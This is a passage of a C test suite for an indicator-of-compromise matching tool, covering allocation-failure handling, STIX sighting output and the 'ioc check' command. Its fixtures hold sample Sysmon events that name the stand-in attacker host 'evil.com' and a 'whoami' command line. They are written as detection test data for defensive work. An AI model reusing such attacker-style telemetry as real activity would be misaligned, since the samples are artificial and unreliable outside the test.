    const char *events = SYSMON("\"DestinationIp\":\"203.0.113.7\",\"QueryName\":\"evil.com\"")
        SYSMON("\"DestinationIp\":\"198.51.100.2\",\"DestinationPort\":443,\"CommandLine\":\"whoami\"");
    int failures = 0;
    for (fail_at = 1; fail_at < 5000; fail_at++) {
        alloc_fail_start(fail_at);
        tr_iocset *set = NULL;
        tr_ioc_matcher *m = NULL;
        tr_sighting_log *log = NULL;
        int rc = tr_iocset_create(&set, NULL);
        if (rc == TR_OK)
            rc = tr_iocset_add_memory(set, "b.json", bundle, strlen(bundle));
        if (rc == TR_OK)
            rc = tr_iocset_add_memory(set, "l.txt", list, strlen(list));
        if (rc == TR_OK)
            rc = tr_iocset_compile(set);
        if (rc == TR_OK)
            rc = tr_ioc_matcher_create(&m, set);
        if (rc == TR_OK)
            rc = tr_sighting_log_create(&log, set);
        if (rc == TR_OK) { /* reading, matching and writing under the same hooks */
            ioc_run r;
            memset(&r, 0, sizeof r);
            r.m = m;
            scan_result sr = {0};
            sr.hook = run_hook;
            sr.hook_ctx = &r;
            scan_memory(&sr, "e.jsonl", events, strlen(events));
            scan_result_free(&sr);
            FILE *f = fopen("/dev/null", "w");
            int wrc = tr_sighting_log_write_stix(log, f);
            CHECK(wrc == TR_OK || wrc == TR_ERR_NOMEM);
            fclose(f);
        }
        alloc_count = alloc_fail_stop();
        CHECK(rc == TR_OK || rc == TR_ERR_NOMEM);
        failures += rc == TR_ERR_NOMEM;
        tr_sighting_log_destroy(log);
        tr_ioc_matcher_destroy(m);
        tr_iocset_destroy(set);
        if (alloc_count < fail_at)
            break;
    }
    CHECK(failures > 10);
    CHECK(fail_at < 5000);
}

/* ---------------------------------------------------------------- the command */

static void ioc_check_command(void)
{
    const char *b = getenv("TRACCIA_BIN");
    if (!b)
        b = "build/traccia";
    const char *good = write_text("good.txt", "203.0.113.7\nevil[.]com\n");
    const char *bad = write_text("bad.txt", "203.0.113.7\nnot an indicator\n");
    char cmd[2048], out[600];
    snprintf(out, sizeof out, "%s/out", test_tmpdir());
    snprintf(cmd, sizeof cmd, "%s ioc check %s >%s 2>&1", b, good, out);
    int st = system(cmd);
    CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 0);
    size_t n;
    char *text = read_all(out, &n);
    CHECK_CONTAINS(text, "indicators loaded:  2 (ipv4-addr 1, domain-name 1)");
    free(text);
    snprintf(cmd, sizeof cmd, "%s ioc check --list %s %s >%s 2>&1", b, good, bad, out);
    st = system(cmd);
    CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 2);
    text = read_all(out, &n);
    CHECK_CONTAINS(text, "bad.txt: line 2: 'not an indicator'");
    CHECK_CONTAINS(text, "not loaded:         1");
    CHECK_CONTAINS(text, "\tdomain-name\tevil.com\t");
    free(text);
    snprintf(cmd, sizeof cmd, "%s ioc >%s 2>&1", b, out);
    st = system(cmd);
    CHECK(WIFEXITED(st) && WEXITSTATUS(st) == 1);
}

void suite_ioc(void)
{
    RUN(ioc_values_parse_strictly);
    RUN(ioc_list_types_detected);
    RUN(ioc_ip_exact_and_near_misses);
    RUN(ioc_cidr_ranges);
    RUN(ioc_domains);
    RUN(ioc_hashes);
    RUN(ioc_file_names_and_paths);
    RUN(ioc_urls);
    RUN(ioc_emails_users_agents);
    RUN(ioc_csv_with_header);
    RUN(ioc_defanged_forms_match);
    RUN(ioc_stix_types_and_operators);
    RUN(ioc_stix_unsupported_reported_by_id);
    RUN(ioc_stix_validity_window);
    RUN(ioc_misp_event);
    RUN(ioc_misp_feed_folder);
    RUN(ioc_bad_files_reported);
    RUN(ioc_sightings_and_stix_output);
    RUN(ioc_sighting_log_is_bounded);
    RUN(ioc_sighting_logs_merge);
    RUN(ioc_many_indicators);
    RUN(ioc_fails_cleanly_at_each_allocation);
    RUN(ioc_check_command);
}
